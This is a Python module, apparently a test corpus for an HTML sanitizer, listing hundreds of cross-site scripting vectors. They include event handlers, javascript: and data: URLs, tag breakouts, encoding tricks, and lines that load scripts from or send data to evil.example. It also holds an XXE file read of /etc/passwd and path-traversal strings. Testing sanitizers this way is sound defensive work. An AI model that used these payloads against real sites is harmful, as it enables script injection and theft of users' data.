"""Known ways of getting a script to run or a request to be made, collected by hand; every one calls ``alert`` or names evil.example."""

from __future__ import annotations

_EVENTS = (
    "onload onerror onclick onmouseover onmouseenter onfocus onfocusin onblur oninput onchange onsubmit onreset onselect "
    "ontoggle onbeforetoggle onwheel onscroll onscrollend onresize onhashchange onpopstate onpageshow onpagehide onmessage "
    "onanimationstart onanimationend onanimationiteration ontransitionrun ontransitionend onpointerdown onpointerover "
    "onpointerrawupdate ongotpointercapture oncopy oncut onpaste ondrag ondragover ondrop onkeydown onkeyup onkeypress "
    "oncontextmenu onauxclick ondblclick onloadstart oncanplay onplay onplaying ontimeupdate oncuechange onbegin onend "
    "onrepeat onstart onfinish onbounce onbeforeunload onunload onstorage ononline onafterprint oncontentvisibilityautostatechange "
    "onsecuritypolicyviolation onformdata oninvalid onsearch onshow onslotchange onstalled onsuspend onvolumechange onwebkitanimationstart"
).split()
_CARRIERS = (
    "<img src=x {}=alert(1)>",
    "<svg {}=alert(1)>",
    "<body {}=alert(1)>",
    "<input autofocus {}=alert(1)>",
    "<details open {}=alert(1)><summary>x</summary></details>",
)
HANDLERS = tuple(_CARRIERS[number % len(_CARRIERS)].format(event) for number, event in enumerate(_EVENTS))
"""Event handlers, each on an element that may fire it."""

_ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", " \x01javascript:alert(1)",
    "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "javascript://evil.example/%0aalert(1)", "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>*/alert(1)",
    "vbscript:msgbox(1)", "livescript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "//evil.example/x", "http://evil.example/x", "https:evil.example/x", "\\\\evil.example\\x", "blob:http://evil.example/x",
    "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "jar:http://evil.example!/x", "file:///etc/passwd",
)  # fmt: skip
_LOADERS = (
    '<a href="{}">x</a>', '<img src="{}">', '<iframe src="{}"></iframe>', '<form action="{}"><input type=submit></form>',
    '<object data="{}"></object>', '<embed src="{}">', '<link rel=stylesheet href="{}">', '<base href="{}"><img src=a.png>',
    '<meta http-equiv=refresh content="0;url={}">', '<script src="{}"></script>', '<svg><use href="{}"/></svg>', '<svg><image href="{}"/></svg>',
    '<video src="{}" autoplay poster="{}"></video>', '<audio src="{}" autoplay></audio>', '<source srcset="{}">', '<track src="{}">',
    '<button formaction="{}">x</button>', '<table background="{}"><td>x</td></table>', '<body background="{}">', '<div style="background:url({})">x</div>',
    '<a ping="{}" href="#">x</a>', '<link rel=prefetch href="{}">', '<link rel=dns-prefetch href="{}">', '<math href="{}">x</math>',
)  # fmt: skip
LOADS = tuple(
    _LOADERS[(number + 7 * turn) % len(_LOADERS)].replace("{}", address)
    for turn in range(3)
    for number, address in enumerate(_ADDRESSES)
)
"""Addresses that run or load, each in three attributes that follow one."""

BREAKOUTS = tuple(
    f"{opening}{payload}"
    for opening in (
        '">', "'>", "`>", "-->", "--!>", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</iframe>",
        "</template>", "</select>", "</svg>", "</math>", "</xmp>", "</plaintext>", "]]>", "?>", "*/</script>", "\u2028</script>",
        '"}]</script>', "</mark>", "</n-page>", "</n-p>", "</pre>", "%3E", "&gt;", "\\x3e",
    )
    for payload in ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>")
)  # fmt: skip
"""Ways out of an attribute, a comment or an element whose content is text, with a script behind."""

PLAIN = (
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script\x20type=text/javascript>alert(1);</script>", "<script\x0c>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script>alert(1)<!--", "<script>/*<![CDATA[*/alert(1)/*]]>*/</script>",
    "<script src=//evil.example/x.js></script>", "<script src='data:,alert(1)'></script>", "<script type=module>import '//evil.example/x.js'</script>",
    "<script type=module>alert(1)</script>", "<script type=importmap>{\"imports\":{\"x\":\"//evil.example/x\"}}</script>",
    "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"http://evil.example/\"]}]}</script>",
    "<script>import('//evil.example/x')</script>", "<script>fetch('//evil.example/x')</script>", "<script>new Image().src='//evil.example/x'</script>",
    "<script>parent.postMessage('x','*')</script>", "<script>top.location='//evil.example/x'</script>", "<script>navigator.sendBeacon('//evil.example/x')</script>",
    "<script>new WebSocket('ws://evil.example/x')</script>", "<script>open('//evil.example/x')</script>", "<script>document.write('<img src=//evil.example/x>')</script>",
    "<svg><script>alert(1)</script></svg>", "<svg><script href=//evil.example/x.js></script></svg>", "<svg><script>alert&lpar;1&rpar;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set onbegin=alert(1) attributename=x>", "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>", "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><script>alert(1)</script></template>", "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe srcdoc='&lt;img src=x onerror=parent.alert(1)&gt;'></iframe>",
    "<iframe src=javascript:alert(1)>", "<iframe onload=alert(1) src=about:blank>", "<frameset><frame src=javascript:alert(1)></frameset>", "<frameset onload=alert(1)>",
    "<object data=data:text/html,<script>alert(1)</script>></object>", "<object type=text/x-scriptlet data=//evil.example/x></object>", "<embed src=data:text/html,<script>alert(1)</script>>",
    "<embed code=//evil.example/x.swf allowscriptaccess=always>", "<applet code=x archive=//evil.example/x.jar></applet>", "<isindex type=image src=x onerror=alert(1)>",
    "<portal src=//evil.example/x></portal>", "<fencedframe src=//evil.example/x></fencedframe>", "<marquee onstart=alert(1)>x</marquee>", "<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<meta http-equiv=refresh content='0;url=//evil.example/x'>", "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\"><script>alert(1)</script>",
    "<meta http-equiv=set-cookie content=x=1>", "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<link rel=import href=//evil.example/x>", "<link rel=preload as=script href=//evil.example/x.js>",
    "<link rel=modulepreload href=//evil.example/x.js>", "<link rel=preconnect href=//evil.example/>", "<link rel=icon href=//evil.example/x.ico>", "<link rel=manifest href=//evil.example/x.json>",
    "<link rel=stylesheet href=data:text/css,*{background:url(//evil.example/x)}>", "<style>@import '//evil.example/x.css';</style>", "<style>@import url(data:text/css,*%7bx:y%7d);</style>", "<style>*{background:url(//evil.example/x)}</style>",
    "<style>@font-face{font-family:x;src:url(//evil.example/x.woff)}*{font-family:x}</style>", "<style>input[value^=a]{background:url(//evil.example/a)}</style>", "<style>body{-moz-binding:url(//evil.example/x.xml#x)}</style>",
    "<style>*{behavior:url(//evil.example/x.htc)}</style>", "<style>html{position:fixed;inset:0;z-index:99}</style>", "<style>:target{background:url(//evil.example/t)}</style>", "<div style='width:expression(alert(1))'>x</div>",
    "<div style='background-image:url(//evil.example/x)'>x</div>", "<div style='behavior:url(//evil.example/x)'>x</div>", "<p style='content:url(//evil.example/x)'>x</p>", "<xss style='animation-name:x' onanimationstart=alert(1)>x</xss>",
    "<img src=x onerror=alert(1)//", "<img/src=x/onerror=alert(1)>", "<img src=x:x onerror\n=\nalert(1)>", "<img src='x' onerror='alert&#40;1&#41;'>", "<img src=x onerror=&#x61;lert(1)>", "<img src=//evil.example/x>",
    "<img srcset='//evil.example/x 1x'>", "<img src=//evil.example/x loading=eager>", "<img src=x onerror=\"fetch('//evil.example/x')\">", "<img lowsrc=//evil.example/x>", "<img dynsrc=javascript:alert(1)>", "<image src=x onerror=alert(1)>", "<image href=//evil.example/x>",
    "<picture><source srcset=//evil.example/x><img src=x></picture>", "<video><source onerror=alert(1)></video>", "<video src=x onerror=alert(1)>", "<video poster=//evil.example/x></video>", "<audio src=x onerror=alert(1)>", "<audio src=//evil.example/x autoplay></audio>",
    "<input type=image src=//evil.example/x>", "<input type=image src=x onerror=alert(1)>", "<input value=x onfocus=alert(1) autofocus>", "<select autofocus onfocus=alert(1)><option>x</select>", "<textarea autofocus onfocus=alert(1)>x</textarea>", "<keygen autofocus onfocus=alert(1)>",
    "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>x</div>", "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>", "<details ontoggle=alert(1) open>x</details>", "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<a href=//evil.example/x target=_top>x</a>", "<a href=//evil.example/x download>x</a>", "<form action=//evil.example/x><input name=x value=y></form><script>document.forms[0].submit()</script>", "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
    "<base target=_top href=//evil.example/>", "<base href='javascript:/a/-alert(1)///////'><a href=../lol/safari.html>x</a>", "<map name=x><area href=javascript:alert(1) shape=default></map>", "<bgsound src=//evil.example/x>", "<layer src=//evil.example/x></layer>", "<xml src=//evil.example/x></xml>",
    "<?xml-stylesheet href='javascript:alert(1)'?>", "<?import namespace=t implementation=//evil.example/x>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><p>&y;</p>", "<![CDATA[<script>alert(1)</script>]]>", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>-->", "<plaintext><script>alert(1)</script>", "<xmp><script>alert(1)</script></xmp><img src=x onerror=alert(1)>", "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>", "<noembed><img src=x onerror=alert(1)></noembed>", "<noframes><img src=x onerror=alert(1)></noframes>",
    "<table><td><script>alert(1)</script></table>", "<table><script>alert(1)</script><tr><td>x</table>", "<a><table><a onclick=alert(1)>x</table></a>", "<p><svg><p><img src=x onerror=alert(1)></svg>", "<b><i><u><s><script>alert(1)</script>", "<select><iframe src=javascript:alert(1)></select>",
    "<custom-element onclick=alert(1)>x</custom-element>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>", "<html onload=alert(1)>", "<body onload=alert(1)>", "<body onpageshow=alert(1)>", "<n-p id=headline onclick=alert(1)>x</n-p>", "<mark id=body class=value onmouseover=alert(1)>x</mark>",
    "\ufeff<script>alert(1)</script>", "\x00<script>alert(1)</script>", "<scr\x00ipt>alert(1)</scr\x00ipt>", "<img src=x\x00 onerror=alert(1)>", "\u202e<script>alert(1)</script>", "＜script＞alert(1)＜/script＞", "<ſcript>alert(1)</ſcript>", "<K onclick=alert(1)>", "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "¼script¾alert(1)¼/script¾",
    "{{constructor.constructor('alert(1)')()}}", "{{7*7}}${7*7}<%= 7*7 %>#{7*7}", "${alert(1)}", "`;alert(1);//", "';alert(1);//", '";alert(1);//', "*/alert(1)/*", "\n//-->\nalert(1)", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "__proto__", "constructor", "toString", "</script><script>alert(1)</script>", "<!--<script>", "<script><!--<script></script>alert(1)", "]]><script>alert(1)</script>", "\u2028alert(1)\u2029", '{"x":"</script><img src=x onerror=alert(1)>"}', "c1", "headline", "../../../../etc/passwd", "..\\..\\windows\\win.ini",
)  # fmt: skip
"""Everything else: elements, encodings, parsers' corners, templates, names that collide with our own."""

VECTORS = tuple(dict.fromkeys((*PLAIN, *HANDLERS, *LOADS, *BREAKOUTS)))
